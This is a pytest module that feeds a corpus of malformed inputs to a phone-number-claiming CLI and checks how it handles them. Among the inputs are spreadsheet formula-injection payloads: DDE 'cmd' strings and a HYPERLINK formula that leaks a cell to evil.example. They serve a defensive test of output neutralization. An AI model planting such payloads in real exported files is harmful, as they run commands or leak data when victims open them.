"""The bad-input corpus (``tests/data/bad_inputs/``): every file through the real CLI, against the sandbox.

Each corpus file is one case of :data:`CASES`, its outcome spelled out:

- a whole-file problem (:class:`FileError`) exits 2 with one line on stderr naming the file (and the
  line, where there is one), and sends nothing at all;
- row-level problems (:class:`Rows`) exit 1 (0 when every row is valid); the JSON Lines report has one
  row per input row that names a number (a duplicate once), invalid rows are ``invalid`` /
  ``InvalidInput`` with a reason and ``source`` = ``<path>:<line>``, valid rows are ``claimed``, and the
  sandbox ledger holds exactly the valid numbers, once each.

Inputs too big or too odd to commit (1 MB lines, deeply nested JSON, a directory, a missing file, a bad
file after a large good one) are generated into a temporary directory by their case. Cases marked
Every case once marked ``xfail`` (a bug it found) now passes: the bugs are fixed.

Every case runs ``bulkclaim claim`` in a subprocess against its own in-process sandbox, as in
tests/test_cli.py. A CLI process costs a second or two, so the runs of the selected cases are made
together, a few at a time, by the module fixture :func:`runs`; each test then checks its own run.
"""

from __future__ import annotations

import csv
import json
import os
import re
import subprocess
import sys
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import anyio
import pytest

from bulkclaim.sandbox import API_NAMES, ThrottleConfig
from tests.support import INSTANCE_ID, SandboxEnv, sandbox_env

CORPUS = Path(__file__).parent / "data" / "bad_inputs"
BULKCLAIM = [sys.executable, "-m", "bulkclaim"]
TARGET = f"instance/{INSTANCE_ID}"
JOURNAL = f"bulkclaim-{INSTANCE_ID}.journal"
CONCURRENT_RUNS = 4


def n(i: int) -> str:
    """The i-th number of the sandbox's default inventory (+12062000000 ...), valid and available."""
    return f"+1206200{i:04d}"


# -- expectations ----------------------------------------------------------------------------------------------
@dataclass(frozen=True)
class FileError:
    """The whole file is refused: exit 2, one stderr line ``bulkclaim: error: <path>[:<line>]: ...``."""

    line: int | None
    reason: str  # part of the message ("" where any clear message will do)


@dataclass(frozen=True)
class Rows:
    """Row-level outcome, by input line."""

    claimed: Mapping[int, str]  # line -> the E.164 number claimed from it
    invalid: Mapping[int, tuple[str, str]] = field(default_factory=dict)  # line -> (phone_number, part of reason)
    duplicates: tuple[int, ...] = ()  # lines logged as ``input.duplicate`` (no report row of their own)
    sent: Mapping[int, tuple[str | None, Mapping[str, str]]] = field(default_factory=dict)  # (description, tags)

    @property
    def exit_code(self) -> int:
        return 1 if self.invalid else 0


@dataclass(frozen=True)
class Case:
    name: str  # the corpus file, or what the generated input is
    expect: FileError | Rows
    args: tuple[str, ...] = ()
    make: Callable[[Path], list[Path]] | None = None  # generated inputs; the last one is the file under test

    @property
    def id(self) -> str:
        return " ".join([self.name, *self.args])

    def inputs(self, tmp: Path) -> list[Path]:
        return self.make(tmp) if self.make else [CORPUS / self.name]


def one_mb_line_txt(tmp: Path) -> list[Path]:
    path = tmp / "one_mb_line.txt"
    path.write_text(f"{n(0)}\n+1206{'0' * (1 << 20)}\n{n(1)}\n", encoding="utf-8")
    return [path]


def one_mb_line_csv(tmp: Path) -> list[Path]:
    path = tmp / "one_mb_line.csv"
    path.write_text(f"phone_number,description\n{n(0)},{'x' * (1 << 20)}\n{n(1)},ok\n", encoding="utf-8")
    return [path]


def deeply_nested_jsonl(tmp: Path) -> list[Path]:
    path = tmp / "deeply_nested.jsonl"
    depth = 32_000  # the line stays under the 64 KiB line limit, so it reaches the JSON parser
    path.write_text(f'"{n(0)}"\n{"[" * depth}{"]" * depth}\n"{n(1)}"\n', encoding="utf-8")
    return [path]


def deeply_nested_tags_csv(tmp: Path) -> list[Path]:
    path = tmp / "deeply_nested_tags.csv"
    depth = 30_000
    cell = '"{""k"": ' + "[" * depth + "]" * depth + '}"'
    path.write_text(f"phone_number,tags\n{n(0)},\n{n(1)},{cell}\n{n(2)},team=ops\n", encoding="utf-8")
    return [path]


def directory(tmp: Path) -> list[Path]:
    path = tmp / "numbers.csv"
    path.mkdir()
    return [path]


def missing_file(tmp: Path) -> list[Path]:
    return [tmp / "does_not_exist.txt"]


def unclosed_quote_after_a_large_csv(tmp: Path) -> list[Path]:
    path = tmp / "unclosed_quote.csv"
    rows = "".join(f"+1206201{i:04d},row {i}\n" for i in range(2500))  # 5 plan batches before it
    path.write_text(f'phone_number,description\n{rows}{n(0)},"opened on line 2502\n{n(1)},x\n', encoding="utf-8")
    return [path]


def unknown_extension(tmp: Path) -> list[Path]:
    path = tmp / "numbers.xlsx"
    path.write_text(f"phone_number\n{n(0)}\n", encoding="utf-8")
    return [path]


def empty_csv_after_a_large_file(tmp: Path) -> list[Path]:
    good = tmp / "good.txt"
    good.write_text("".join(f"+1206201{i:04d}\n" for i in range(2500)), encoding="utf-8")  # 5 plan batches
    return [good, CORPUS / "empty.csv"]


NOT_INTERNATIONAL = ("is not in international format (+country code); give a default region for national numbers: "
                     "--default-region-for-numbers US")
BAD_CHARACTERS = "has characters other than digits"
NOT_VALID = "is not a valid number for its country"
NOT_A_NUMBER = "is not a phone number"
NOT_JSON = "not valid JSON"
NOT_OBJECT = "a JSON line must be an object or a string"
NUL = "line contains NUL bytes"
TOO_LONG_LINE = "line longer than 65536 bytes"
RESERVED = "keys starting with 'aws:' are reserved by AWS"

FORMULAS = {  # line -> a phone_number cell a spreadsheet would run (the JSON Lines report shows it as it is)
    6: '=HYPERLINK("http://evil.example","call me")',
    7: "+cmd|' /C calc'!A0",
    8: "@SUM(1+1)",
    9: "-2+3+cmd|' /C calc'!A0",
}
FORMULA_CASE = Case("formula_injection.csv", Rows(
    {2: n(0), 3: n(1), 4: n(2), 5: n(3)},  # formula-looking descriptions are valid, and sent as they are
    {line: (cell, BAD_CHARACTERS) for line, cell in FORMULAS.items()},
    sent={2: ('=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")', {"team": "ops"}),
          3: ("+cmd|' /C calc'!A0", {"team": "ops"}),
          4: ("@SUM(1+1)*cmd|' /C calc'!A0", {}),
          5: ("-2+3+cmd|' /C calc'!A0", {})}))


def ok(case: Case) -> Any:
    return pytest.param(case, id=case.id)


CASES = [
    # encodings and line endings
    ok(Case("non_utf8_row.txt", Rows({1: n(0), 3: n(2)}, {2: ("+1206200\ufffd0001", "not valid UTF-8 (byte 9)")}))),
    ok(Case("non_utf8_description.csv", Rows({2: n(0), 4: n(2)},
                                             {3: ("+12062000001,Caf\ufffd counter", "not valid UTF-8 (byte 17)")}))),
    ok(Case("utf8_bom.csv", Rows({2: n(0), 3: n(1)}, sent={2: ("first", {}), 3: ("second", {})}))),
    ok(Case("utf8_bom.txt", Rows({1: n(0), 2: n(1)}))),
    ok(Case("crlf_line_endings.csv", Rows({2: n(0), 3: n(1)}, sent={2: ("front desk", {"team": "ops"}),
                                                                    3: ("back office", {"env": "prod"})}))),
    ok(Case("crlf_line_endings.txt", Rows({2: n(0), 4: n(1)}))),
    ok(Case("cr_only_line_endings.txt", Rows({}, {1: (f"{n(0)}\r{n(1)}", NOT_A_NUMBER)}))),
    ok(Case("cr_only_line_endings.csv", FileError(1, ""))),
    ok(Case("utf16.txt", Rows({}, {1: ("\ufffd\ufffd" + n(0), NUL), 2: (n(1), NUL), 3: ("", NUL)}))),
    ok(Case("nul_bytes.txt", Rows({1: n(0), 3: n(2)}, {2: (n(1), NUL)}))),
    # empty and structural problems
    ok(Case("empty.txt", Rows({}))),
    ok(Case("empty.csv", FileError(None, "empty file; a CSV needs a header with a phone_number column"))),
    ok(Case("header_only.csv", Rows({}))),
    ok(Case("missing_phone_number_column.csv", FileError(1, "no phone_number column in the header"))),
    ok(Case("semicolon_delimited.csv", FileError(1, "no phone_number column in the header ['phone_number;"))),
    ok(Case("empty_phone_cells.csv", Rows({3: n(0)}, {2: ("", "empty phone number"), 6: ("", "empty phone number")}))),
    # the quote of line 2 runs on to line 4, whose quote closes it but is not followed by a separator: the
    # rows after it cannot be told apart any more, so nothing is sent (today's spreadsheets agree: rows 3-4
    # would land inside one description)
    ok(Case("unterminated_quote.csv", FileError(2, "the quote opened on line 2 is not closed where it should be"))),
    ok(Case("unclosed quote after 2500 valid rows", FileError(2502, "the quote opened on line 2502 never closes"),
            make=unclosed_quote_after_a_large_csv)),
    # as Excel and Google Sheets write them: rows end in CRLF, cells with line breaks are quoted and span
    # lines, headers as people type them; a row is named by the line it starts on
    ok(Case("spreadsheet_multiline.csv", Rows({2: n(0), 4: n(1), 7: n(2), 10: n(3)},
                                              {8: ("not a number", BAD_CHARACTERS)},
                                              sent={2: ("Front desk\nsecond floor", {"team": "ops"}),
                                                    4: ('Line with "quotes"\n\nand a blank line', {}),
                                                    10: ("last", {})}))),
    ok(Case("headerless.csv", FileError(1, "or pass --format txt for one number per line"))),
    ok(Case("numbers.xlsx", FileError(None, "name it .csv, .txt or .jsonl, or pass --format csv|txt|jsonl"),
            make=unknown_extension)),
    ok(Case("more_cells_than_header.csv", Rows({3: n(1), 4: n(2), 5: n(3)}, {
        2: (f"{n(0)},main,extra", "3 cells but the header has 2"),
        6: (f"{n(4)},x,", "3 cells but the header has 2"),
    }))),
    ok(Case("instance_id_and_target_arn.csv", Rows({3: n(1), 4: n(2), 5: n(3)},
                                                   {2: (n(0), "a row may name instance_id or target_arn, not both")}))),
    # the numbers themselves
    ok(Case("national_format.txt", Rows({}, {
        1: ("2062000000", NOT_INTERNATIONAL), 2: ("(206) 200-0001", NOT_INTERNATIONAL),
        3: ("206.200.0002", NOT_INTERNATIONAL), 4: ("1-206-200-0003", NOT_INTERNATIONAL),
    }))),
    ok(Case("national_format.txt", Rows({1: n(0), 2: n(1), 3: n(2), 4: n(3)}),
            args=("--default-region-for-numbers", "US"))),
    ok(Case("letters_in_number.txt", Rows({3: n(1)}, {
        1: ("+1206200000O", BAD_CHARACTERS), 2: ("+1-206-CALL-NOW", BAD_CHARACTERS),
        4: (f"tel:{n(2)}", BAD_CHARACTERS), 5: (f"{n(3)}x12", BAD_CHARACTERS),
    }))),
    ok(Case("too_long.txt", Rows({4: n(0)}, {
        1: ("+120620000001", NOT_VALID), 2: ("+1206200000012", NOT_VALID), 3: ("+1234567890123456", NOT_VALID),
        5: ("+120620000001206200000", "is too long to be a phone number"),
    }))),
    ok(Case("too_short.txt", Rows({5: n(1)}, {
        1: ("+1206200000", NOT_VALID), 2: ("+1206200", NOT_VALID), 3: ("+12", NOT_A_NUMBER), 4: ("+", NOT_A_NUMBER),
    }))),
    ok(Case("punctuation.txt", Rows({1: n(0), 2: n(1), 3: n(2), 4: n(3), 5: n(4)}))),
    # exact duplicates: the first line is the number's source; an invalid row is reported each time it appears
    ok(Case("duplicates.txt", Rows({1: n(0), 2: n(1)}, {7: ("555-CALL-NOW", BAD_CHARACTERS),
                                                        8: ("555-CALL-NOW", BAD_CHARACTERS)}, duplicates=(3, 4, 6)))),
    ok(Case("duplicates_mixed_spelling.txt", Rows({1: n(0)}, duplicates=(2, 3)))),
    # descriptions and tags
    ok(FORMULA_CASE),
    ok(Case("description_too_long.csv", Rows({2: n(0), 4: n(2)},
                                             {3: (n(1), "description has 501 characters; Connect allows 500")}))),
    ok(Case("aws_tag_keys.csv", Rows({5: n(3)}, {
        2: (n(0), f"tag key 'aws:createdBy': {RESERVED}"), 3: (n(1), f"tag key 'AWS:Owner': {RESERVED}"),
        4: (n(2), f"tag key 'aws:cloudformation:stack-name': {RESERVED}"),
    }))),
    ok(Case("too_many_tags.jsonl", Rows({1: n(0)}, {2: (n(1), "51 tags; Connect allows 50"),
                                                   3: (n(2), "51 tags; Connect allows 50")}))),
    ok(Case("tag_values_not_text.jsonl", Rows({1: n(0)}, {2: (n(1), "tag"), 3: (n(2), "tag")}))),
    # JSON Lines
    ok(Case("broken_json.jsonl", Rows({1: n(0), 7: n(6)}, {
        2: (f'{{"phone_number": "{n(1)}"', f"{NOT_JSON}: Expecting ',' delimiter"),
        3: (f"{{'phone_number': '{n(2)}'}}", f"{NOT_JSON}: Expecting property name enclosed in double quotes"),
        4: (f'{{"phone_number": {n(3)}}}', f"{NOT_JSON}: Expecting value"),
        5: (f'{{phone_number: "{n(4)}"}}', f"{NOT_JSON}: Expecting property name enclosed in double quotes"),
        6: (f'{{"phone_number": "{n(5)}"}}}}', f"{NOT_JSON}: Extra data"),
        9: (f'{{"phone_number": "{n(7)}", "description": "trailing comma",}}', NOT_JSON),
    }))),
    ok(Case("json_array.jsonl", Rows({3: n(2)}, {
        1: (f'["{n(0)}"]', NOT_OBJECT), 2: (f'[{{"phone_number": "{n(1)}"}}]', NOT_OBJECT),
        4: ("12062000003", NOT_OBJECT), 5: ("null", NOT_OBJECT), 6: ("true", NOT_OBJECT),
    }))),
    ok(Case("json_wrong_types.jsonl", Rows({5: n(3)}, {
        1: ("12062000000", NOT_INTERNATIONAL), 2: ("", "empty phone number"), 3: (n(1), "description must be text"),
        4: (n(2), "tags must be a JSON object or key=value pairs"), 6: (n(4), "tag 'noequals' is not key=value"),
        7: (n(5), "tags look like JSON but do not parse"), 8: ("", "empty phone number"),
    }))),
    # generated
    ok(Case("one_mb_line.txt", Rows({1: n(0), 3: n(1)}, {2: ("+1206" + "0" * 195, TOO_LONG_LINE)}),
            make=one_mb_line_txt)),
    ok(Case("one_mb_line.csv", Rows({3: n(1)}, {2: (f"{n(0)}," + "x" * 187, TOO_LONG_LINE)}), make=one_mb_line_csv)),
    ok(Case("deeply_nested.jsonl", Rows({1: n(0), 3: n(1)}, {2: ("[" * 200, "")}), make=deeply_nested_jsonl)),
    ok(Case("deeply_nested_tags.csv", Rows({2: n(0), 4: n(2)}, {3: (n(1), "tags")}), make=deeply_nested_tags_csv)),
    ok(Case("a directory", FileError(None, "is a directory"), make=directory)),
    ok(Case("a missing file", FileError(None, "no such file"), make=missing_file)),
    ok(Case("empty.csv after 2500 valid rows", FileError(None, "empty file"), make=empty_csv_after_a_large_file)),
]


# -- running the CLI (the pattern of tests/test_cli.py) --------------------------------------------------------
def cli_env(env: SandboxEnv | None = None) -> dict[str, str]:
    base = {k: v for k, v in os.environ.items() if not k.startswith(("AWS_", "BULKCLAIM_"))}
    if env is None:
        return {**base, "NO_COLOR": "1"}
    return {**base, "AWS_ENDPOINT_URL_CONNECT": env.endpoint_url, "AWS_REGION": "us-east-1",
            "AWS_ACCESS_KEY_ID": env.settings.aws_access_key_id or "",
            "AWS_SECRET_ACCESS_KEY": env.settings.aws_secret_access_key or "", "NO_COLOR": "1"}


def claim_args(*inputs: Path) -> list[str]:
    return ["claim", *map(str, inputs), "--instance-id", INSTANCE_ID, "--report", "out.jsonl", "--rate", "200",
            "--burst", "20", "--verify-timeout", "5", "--log-format", "json"]


@dataclass(frozen=True)
class Run:
    """What one ``bulkclaim claim`` left behind, and what its sandbox saw."""

    path: Path  # the input under test, as given on the command line
    cwd: Path  # where the report and the journal are
    result: subprocess.CompletedProcess[str]
    ledger: list[str]  # the numbers the sandbox claimed, in order, with repeats
    requests: int  # every request the sandbox answered
    described: Mapping[str, tuple[str | None, Mapping[str, str]]]  # claimed PhoneNumberId -> (description, tags)


async def run_case(case: Case, cwd: Path) -> Run:
    fast = {api: ThrottleConfig(rate=200.0, burst=20) for api in API_NAMES}
    async with sandbox_env(throttle=fast, claim_delay=0.0) as env:
        inputs = case.inputs(cwd)
        done = await anyio.run_process([*BULKCLAIM, *claim_args(*inputs), *case.args], cwd=cwd, env=cli_env(env),
                                       check=False)
        result = subprocess.CompletedProcess(done.args, done.returncode, done.stdout.decode(), done.stderr.decode())
        entries = list(env.sandbox.ledger)
        requests = sum(sum(counts.values()) for counts in env.sandbox.stats().values())
        described: dict[str, tuple[str | None, Mapping[str, str]]] = {}
        if isinstance(case.expect, Rows) and case.expect.sent:
            async with env.client() as client:
                for entry in entries:
                    answer = await client.describe_phone_number(PhoneNumberId=entry.phone_number_id)
                    summary = answer["ClaimedPhoneNumberSummary"]
                    described[entry.phone_number_id] = (summary.get("PhoneNumberDescription") or None,
                                                        summary.get("Tags", {}))
    return Run(inputs[-1], cwd, result, [e.phone_number for e in entries], requests, described)


@pytest.fixture(scope="module")
def runs(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Run]:
    """The run of every case selected in this session, by case id, made CONCURRENT_RUNS at a time."""
    selected: dict[str, Case] = {}
    for item in request.session.items:
        callspec = getattr(item, "callspec", None)
        case = callspec.params.get("case") if callspec is not None else None
        if isinstance(case, Case):
            selected[case.id] = case
    done: dict[str, Run] = {}

    async def one(case: Case, limiter: anyio.CapacityLimiter) -> None:
        async with limiter:
            with anyio.fail_after(120):
                done[case.id] = await run_case(case, tmp_path_factory.mktemp(re.sub(r"\W+", "_", case.id)))

    async def run_all() -> None:
        limiter = anyio.CapacityLimiter(CONCURRENT_RUNS)
        async with anyio.create_task_group() as tg:
            for case in selected.values():
                tg.start_soon(one, case, limiter)

    anyio.run(run_all)
    return done


# -- checks ----------------------------------------------------------------------------------------------------
def no_traceback(result: subprocess.CompletedProcess[str]) -> None:
    assert "Traceback" not in result.stderr + result.stdout
    assert "internal error" not in result.stderr, result.stderr


def log_events(result: subprocess.CompletedProcess[str], event: str) -> list[dict[str, Any]]:
    found = [json.loads(line) for line in result.stderr.splitlines() if line.startswith("{")]
    return [e for e in found if e.get("event") == event]


def assert_file_error(run: Run, expect: FileError) -> None:
    assert run.result.returncode == 2, run.result.stderr
    lines = run.result.stderr.strip().splitlines()
    assert len(lines) == 1, run.result.stderr
    where = f"{run.path}:{expect.line}: " if expect.line is not None else f"{run.path}: "
    assert lines[0].startswith(f"bulkclaim: error: {where}"), lines[0]
    assert expect.reason in lines[0]
    assert run.ledger == [] and run.requests == 0, "nothing may be sent"


def assert_rows(run: Run, expect: Rows) -> dict[int, dict[str, Any]]:
    """Check the run, its report and the ledger against ``expect``; return the report rows by line."""
    result, path = run.result, run.path
    assert result.returncode == expect.exit_code, result.stderr
    rows = [json.loads(line) for line in (run.cwd / "out.jsonl").read_text(encoding="utf-8").splitlines()]
    lines = [int(r["source"].rsplit(":", 1)[1]) for r in rows]
    assert [r["source"] for r in rows] == [f"{path}:{line}" for line in lines]
    assert sorted(lines) == sorted([*expect.claimed, *expect.invalid]), "one report row per input row"
    by_line = dict(zip(lines, rows, strict=True))
    for line, number in expect.claimed.items():
        row = by_line[line]
        assert (row["phone_number"], row["status"], row["error_code"], row["error_message"]) == (
            number, "claimed", None, None), row
        assert row["target"] == TARGET and row["phone_number_id"] and row["client_token"] and row["attempts"] >= 1
    for line, (raw, reason) in expect.invalid.items():
        row = by_line[line]
        assert (row["phone_number"], row["status"], row["error_code"]) == (raw, "invalid", "InvalidInput"), row
        assert row["error_message"] and reason in row["error_message"], row["error_message"]
        assert row["target"] == TARGET and row["client_token"] is None and row["attempts"] == 0
    assert sorted(run.ledger) == sorted(expect.claimed.values()), "exactly the valid numbers, once each"
    logged = sorted(e["source"] for e in log_events(result, "input.invalid"))
    assert logged == sorted(f"{path}:{line}" for line in expect.invalid), "every invalid row is logged with file:line"
    duplicates = sorted(e["source"] for e in log_events(result, "input.duplicate"))
    assert duplicates == sorted(f"{path}:{line}" for line in expect.duplicates)
    for line, sent in expect.sent.items():
        assert run.described[by_line[line]["phone_number_id"]] == sent, f"line {line} as the sandbox holds it"
    return by_line


# -- the corpus ------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("case", CASES)
def test_bad_input(case: Case, runs: dict[str, Run]) -> None:
    run = runs[case.id]
    no_traceback(run.result)
    if isinstance(case.expect, FileError):
        assert_file_error(run, case.expect)
    else:
        assert_rows(run, case.expect)


@pytest.mark.parametrize("case", [FORMULA_CASE], ids=[FORMULA_CASE.id])
def test_formula_cells_are_neutralized_in_the_csv_report(case: Case, runs: dict[str, Run]) -> None:
    """Cells a spreadsheet would run start with an apostrophe in CSV; plain E.164 numbers stay as they are."""
    run = runs[case.id]
    report = subprocess.run([*BULKCLAIM, "report", "--journal", JOURNAL, "--output", "out.csv"], cwd=run.cwd,
                            env=cli_env(), capture_output=True, text=True, check=False)
    assert report.returncode == 0, report.stderr
    no_traceback(report)
    with (run.cwd / "out.csv").open(encoding="utf-8", newline="") as handle:
        table = list(csv.DictReader(handle))
    by_line = {int(r["source"].rsplit(":", 1)[1]): r for r in table}
    assert sorted(by_line) == [2, 3, 4, 5, 6, 7, 8, 9]
    for line, cell in FORMULAS.items():
        assert by_line[line]["phone_number"] == "'" + cell, "neutralized with a leading apostrophe"
    for line in (2, 3, 4, 5):
        assert by_line[line]["phone_number"] == n(line - 2), "plain E.164 numbers are left as they are"
    plain_number = re.compile(r"^[+-]?\d+(\.\d+)?$")
    for row in table:
        for cell in row.values():
            assert not (cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not plain_number.match(cell)), cell


# -- the corpus itself -----------------------------------------------------------------------------------------
def test_every_corpus_file_has_a_case_and_the_corpus_stays_small() -> None:
    cases: list[Case] = [p.values[0] for p in CASES]
    assert {path.name for path in CORPUS.iterdir()} == {c.name for c in cases if c.make is None}
    assert len({c.name for c in cases}) >= 25
    assert sum(path.stat().st_size for path in CORPUS.iterdir()) < 20_000


@pytest.mark.parametrize(("name", "marker"), [
    ("non_utf8_row.txt", b"\xff"), ("non_utf8_description.csv", b"\xe9"), ("utf8_bom.csv", b"\xef\xbb\xbf"),
    ("utf8_bom.txt", b"\xef\xbb\xbf"), ("crlf_line_endings.csv", b"\r\n"), ("crlf_line_endings.txt", b"\r\n"),
    ("cr_only_line_endings.csv", b"\r+"), ("cr_only_line_endings.txt", b"\r+"), ("utf16.txt", b"\xff\xfe+\x00"),
    ("nul_bytes.txt", b"\x00"), ("spreadsheet_multiline.csv", b"\"\n\n"), ("spreadsheet_multiline.csv", b"+1\t206"),
    ("spreadsheet_multiline.csv", b",\r\n"),
])
def test_corpus_bytes_are_intact(name: str, marker: bytes) -> None:
    """Guards against an editor or a git setting (autocrlf) normalizing the very bytes under test."""
    data = (CORPUS / name).read_bytes()
    assert marker in data
    if name.startswith("cr_only"):
        assert b"\n" not in data
